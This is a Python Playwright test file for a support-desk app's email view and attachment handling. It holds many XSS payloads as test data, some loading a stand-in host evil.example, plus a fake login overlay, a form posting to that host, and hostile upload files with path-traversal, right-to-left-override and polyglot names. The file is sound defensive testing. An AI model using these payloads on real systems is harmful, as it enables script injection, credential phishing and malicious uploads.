"""What customers send as HTML and as files, shown in a real browser: it says what it says and does nothing."""

from __future__ import annotations

import json
import smtplib
from collections.abc import Sequence
from typing import Any
from urllib.parse import quote

import pytest
from playwright.sync_api import Page, Request, expect

from tests import corpora
from tests.browsing import ABSENT, Comes, Visitor
from tests.mail import letter, send
from tests.running import Desk, wait_until

pytestmark = pytest.mark.browser

FROM = "eve@evil.example"
TO = "support@kaldera.example"
# What peers were bitten by, each with the row it stands for: scripts, handlers, style sheets, overlays, forms, clobbering, frames, MathML.
OURS = (
    ("D01", "<p>hello</p><svg onload=alert(1)><script>alert(1)</script></svg>"),
    ("D01", "<p>hello</p><img src=x onerror=alert(1)><img src=//evil.example/a.gif>"),
    ("D03", '<p>hello</p><style>@im@import url(//evil.example/e)port "x"</style>'),
    ("D03", "<p>hello</p><style>body{background:url(//evil.example/b)}</style>"),
    (
        "D05",
        '<p>hello</p><div style="position:fixed;inset:0;z-index:9">Session expired, log in</div>',
    ),
    ("D05", '<p>hello</p><p style="background:url(https://evil.example/c)">x</p>'),
    ("D05", '<p>hello</p><p style="background:u\\72l(//evil.example/c)">x</p>'),
    (
        "D07",
        '<p>hello</p><form action="//evil.example"><input name=password autofocus onfocus=alert(1)></form>',
    ),
    ("D09", "<p>hello</p><div id=attributes name=getElementById>x</div><img name=body src=cid:a>"),
    ("D15", '<p>hello</p><iframe src="https://www.youtube.com@evil.example/"></iframe>'),
    ("D15", "<p>hello</p><iframe srcdoc='<script>parent.alert(1)</script>'></iframe>"),
    (
        "D13",
        '<p>hello</p><a href="JaVaScRiPt&colon;alert(1)">x</a><a href="data:text/html,<script>alert(1)</script>">y</a>',
    ),
    (
        "D01 MathML",
        "<p>hello</p><math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    ),
    ("D01 noscript", "<p>hello</p><noscript><p title='</noscript><img src=x onerror=alert(1)>'>"),
    (
        "D07 meta",
        '<p>hello</p><meta http-equiv=refresh content="0;url=//evil.example"><base href="//evil.example/">',
    ),
    (
        "D03 link",
        '<p>hello</p><link rel=stylesheet href="//evil.example/s.css"><link rel=preload as=image href="//evil.example/p.png">',
    ),
    (
        "D15 object",
        "<p>hello</p><object data=//evil.example/o></object><embed src=//evil.example/e><video poster=//evil.example/v autoplay>",
    ),
    (
        "D05 table",
        '<p>hello</p><table background="//evil.example/t"><tr><td background="//evil.example/u">x</td></tr></table>',
    ),
    (
        "D01 srcset",
        '<p>hello</p><img srcset="//evil.example/1x 1x, //evil.example/2x 2x" src="file:///etc/passwd">',
    ),
    (
        "D01 details",
        "<p>hello</p><details open ontoggle=alert(1)><summary>x</summary></details><marquee onstart=alert(1)>x</marquee>",
    ),
    (
        "D01 template",
        "<p>hello</p><template><script>alert(1)</script></template><xmp><img src=x onerror=alert(1)></xmp>",
    ),
    ("D01 body", "<p>hello</p><body onload=alert(1)><html onclick=alert(1)>"),
    (
        "D07 ping",
        "<p>hello</p><a href='//evil.example' ping='//evil.example/ping' target=_top>leave</a>",
    ),
)
HARMLESS = (
    '<table width="100%"><tr><td align="center" style="color:#c00;padding:8px"><b>Pedido 7</b></td></tr></table>'
    '<ul><li>uno</li><li>dos</li></ul><a href="https://shop.example/p/7">la tienda</a><blockquote>antes</blockquote>'
)
# What is in the frame that must not be there. Words the frame itself begins with (its own style and base) are left out.
ACTING = """() => {
  const bad = [...document.body.querySelectorAll(
    "script, style, iframe, frame, object, embed, form, input, button, textarea, select, svg, math, link, meta, base, " +
    "video, audio, source, template, [id], [name], [srcset], [background], [ping], [srcdoc], [action]")].map((one) => one.outerHTML.slice(0, 120));
  for (const one of [document.documentElement, document.body, ...document.body.querySelectorAll("*")])
    for (const { name, value } of one.attributes) {
      if (name.startsWith("on")) bad.push(`${name}=${value}`);
      if (["href", "src"].includes(name) && !/^(https?:|mailto:|tel:|data:image\\/|\\/files\\/|$)/i.test(value)) bad.push(`${name}=${value.slice(0, 80)}`);
      if (name === "style" && /url|position|expression|@import/i.test(value)) bad.push(`style=${value}`);
    }
  return bad; }"""
IDS = """
import json
from hospes.conversations.models import Message
print(json.dumps({s: [pk, ref] for s, pk, ref in Message.objects.filter(subject__startswith=%r).exclude(html="")
    .values_list("subject", "pk", "conversation__reference")}))
"""


def send_all(desk: Desk, subject: str, fragments: Sequence[str]) -> dict[str, tuple[int, str]]:
    """Send each fragment as a mail of its own; return message and conversation by subject."""
    with smtplib.SMTP("127.0.0.1", desk.smtp_port, timeout=20) as door:
        for number, fragment in enumerate(fragments):
            shown = fragment.encode("utf-8", "replace").decode()
            body = letter(f"Eve <{FROM}>", subject=f"{subject} {number}", text="hello", html=shown)
            door.sendmail(FROM, [TO], body)
    wait_until(lambda: desk.json("mail")["pending"] == 0, why="everything is understood")
    return dict(json.loads(desk.python(IDS % f"{subject} ")))


def watch(page: Page) -> list[str]:
    """Note everything that would show that a mail did something."""
    acted: list[str] = []
    page.on("dialog", lambda dialog: (acted.append(f"dialog: {dialog.message}"), dialog.dismiss()))
    page.context.on("page", lambda opened: acted.append(f"opened {opened.url}"))

    def asked(request: Request) -> None:
        if not request.url.startswith("data:") and "/frame/" not in request.url:
            acted.append(f"asked for {request.url}")

    page.on("request", asked)
    return acted


def shows(visitor: Visitor, message: int) -> list[str]:
    """Show a mail as its frame does; return what in it could act."""
    response = visitor.goes_to(f"/m/{message}/frame/") and visitor.page
    return list(response.evaluate(ACTING))


def test_d11_a_name_with_markup_is_shown_as_it_is_written(desk: Desk, comes: Comes) -> None:
    name = "<img src=x onerror=alert(1)>"
    body = letter(f'"{name}" <{FROM}>', subject="<script>alert(1)</script> tag", text=name)
    mina = comes("mina")
    page = mina.goes_to("/inbox/unassigned/")
    mina.is_live()
    acted = watch(page)
    send(desk.smtp_port, body, from_=FROM, to=TO)
    row = page.locator("#list .conv", has_text="<script>alert(1)</script> tag")
    expect(row).to_contain_text(name)
    row.click()
    expect(page.locator("#timeline .said").last).to_have_text(name)
    expect(page.locator("#customer h2").first).to_contain_text(name)
    page.keyboard.press("Control+k")
    page.locator("#palette-input").fill("evil.example")
    expect(page.locator("#palette-list [data-group=found]")).to_contain_text(name)
    assert not [one for one in acted if "dialog" in one]


FILES = [
    ("\u200b.htaccess", "text/plain", b"AddType application/x-httpd-php .txt"),
    ("../../etc/x.htaccess", "text/plain", b"x"),
    ("C:\\windows\\x.php\u200b", "application/x-php", b"<?php phpinfo();"),
    ("a" * 5000 + ".txt", "text/plain", b"x"),
    ("logo.svg", "image/svg+xml", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><script>alert(1)</script></svg>"),
    ("both.gif", "image/gif", b"GIF89a/*" + b"\x00" * 20 + b"*/=1;alert(1)//"),
    ("page.png", "image/png", b"<html><script>alert(1)</script>"),
    ("page.html", "text/html", b"<html><script>alert(1)</script>"),
    ("invoice\u202efdp.exe", "application/octet-stream", b"MZ"),
    ("x.xhtml", "application/xhtml+xml", b"<html xmlns='http://www.w3.org/1999/xhtml'><script>alert(1)</script></html>"),
]  # fmt: skip


def test_e01_e03_e05_e11_files_are_saved_under_harmless_names_and_never_run(
    desk: Desk, comes: Comes
) -> None:
    body = letter(f"Eve <{FROM}>", subject="Hostile files", text="see the files", files=FILES)
    send(desk.smtp_port, body, from_=FROM, to=TO)
    wait_until(lambda: desk.json("mail")["pending"] == 0, why="it is understood")
    mina = comes("mina")
    mina.goes_to("/inbox/unassigned/")
    page = mina.page
    page.locator("#list .conv", has_text="Hostile files").click()
    links = page.locator("#timeline a[href^='/files/']")
    expect(links).to_have_count(len(FILES))
    acted = watch(page)
    for link in links.all():
        address = str(link.get_attribute("href"))
        answered = page.request.get(desk.url + address)
        check_answer(answered)
        assert not {"\u202e", "\u200b", "/", "\\"} & set(link.inner_text())
    assert not [one for one in acted if "dialog" in one]
    names = [path.name for path in (desk.folder / "files").rglob("*") if path.is_file()]
    assert names
    assert not [name for name in names if not name.isalnum()]  # a sum over the content, no more


def check_answer(answered: Any) -> None:
    headers = answered.headers
    assert answered.status == 200
    assert headers["x-content-type-options"] == "nosniff"
    assert "sandbox" in headers["content-security-policy"]
    assert "default-src 'none'" in headers["content-security-policy"]
    kind = headers["content-type"].partition(";")[0]
    assert kind in {"application/octet-stream", "image/png", "image/gif"}
    disposition = headers["content-disposition"]
    if kind == "application/octet-stream":
        assert disposition.startswith("attachment")
    for harmful in ("/", "\\", "%2F", "%5C", quote("\u200b"), quote("\u202e"), "%00"):
        assert harmful not in disposition.partition("filename")[2].replace("utf-8''", "")
    assert len(disposition) < 1500


def test_two_hundred_known_attacks_do_nothing(desk: Desk, comes: Comes) -> None:
    file = corpora.folder("xss") / "dompurify_expect.json"
    cases = json.loads(file.read_text(encoding="utf-8"))["cases"]
    assert len(cases) >= 200
    known = send_all(desk, "Known", [case["payload"] for case in cases])
    mina = comes("mina")
    mina.expected = ABSENT  # a frame as a page of its own has no picture for its tab
    acted = watch(mina.page)
    wrong = []
    for subject, (message, _) in known.items():
        wrong += [f"{subject}: {one}" for one in [*shows(mina, message), *acted]]
        acted.clear()
    assert not wrong, "\n".join(wrong)
    assert len(known) > len(cases) * 0.6  # the others have nothing left to show


def test_d01_d03_d05_d07_d09_d15_what_peers_were_bitten_by_does_nothing_in_the_conversation(
    desk: Desk, comes: Comes
) -> None:
    sent = send_all(desk, "Hostile", [fragment for _row, fragment in OURS])
    assert len(sent) == len(OURS)
    mina = comes("mina")
    wrong = []
    for subject, (_, reference) in sent.items():
        row = OURS[int(subject.split()[-1])][0]
        page = mina.goes_to(f"/c/{reference}/")
        acted: list[str] = []
        page.once("dialog", lambda dialog, acted=acted: (acted.append(dialog.message), dialog.dismiss()))  # fmt: skip
        page.locator("details[data-frame] summary").first.click()
        frame = page.frame_locator("iframe.frame").first
        expect(frame.locator("body")).to_contain_text("hello")
        bad = frame.locator(":root").evaluate(f"(root) => ({ACTING})()")
        wrong += [f"{row}, {subject}: {one}" for one in [*bad, *acted]]
        # It cannot leave its frame: nothing of it lies over our page, and our page is still ours.
        expect(page.locator("#composer")).to_be_visible()
        assert "/c/" in page.url
    assert not wrong, "\n".join(wrong)


def test_harmless_markup_is_still_there(desk: Desk, comes: Comes) -> None:
    ((message, _),) = send_all(desk, "Harmless", [HARMLESS]).values()
    mina = comes("mina")
    mina.expected = ABSENT
    page = mina.goes_to(f"/m/{message}/frame/")
    expect(page.locator("td b")).to_have_text("Pedido 7")
    expect(page.locator("td")).to_have_css("color", "rgb(204, 0, 0)")
    expect(page.locator("li")).to_have_count(2)
    expect(page.locator("a")).to_have_attribute("href", "https://shop.example/p/7")
    assert {"noopener", "noreferrer"} <= set(str(page.locator("a").get_attribute("rel")).split())
